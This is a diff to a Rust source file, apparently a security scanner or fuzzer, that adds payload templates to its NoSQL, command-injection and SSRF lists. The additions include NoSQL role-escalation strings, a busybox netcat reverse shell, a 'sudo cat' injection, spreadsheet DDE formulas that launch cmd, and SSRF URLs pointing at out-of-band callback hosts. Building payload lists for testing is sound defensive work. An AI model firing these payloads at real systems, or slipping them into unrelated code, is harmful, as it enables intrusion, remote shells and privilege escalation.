@@ -134,6 +134,10 @@ const NOSQL: &[&str] = &[
     "{\"$expr\": {\"$eq\": [1, 1]}}",
     "'; return '' == '",
     "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
+    "[$nin][]",
+    "[$regex][]",
+    "'}, {$set: {role: '{w}'}}, {multi: true}); //",
+    "\"}, {\"$inc\": {\"{w}\": {n}}}",
 ];
 
 const COMMAND: &[&str] = &[
@@ -181,6 +185,10 @@ const COMMAND: &[&str] = &[
     "{w};sleep {n} #",
     "\" || echo db 6c 41 68 >>{w}",
     "{w}' || echo {n} {n} >>{w}",
+    "{w}|busybox nc {h} {n} -e sh",
+    "{w};sudo cat {w}",
+    "=cmd|' /C {w}'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A{n}",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -281,6 +289,10 @@ const SSRF: &[&str] = &[
     "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
     "https://520968996/{w}",
     "https://0x1f0d5e44/",
+    "http://{w}.oastify.com/",
+    "https://{w}.oast.pro:{n}/a",
+    "http://[::ffff:216.58.214.206]/",
+    "http://[::ffff:d83a:d6ce]/{w}",
 ];
 
 const XXE: &[&str] = &[
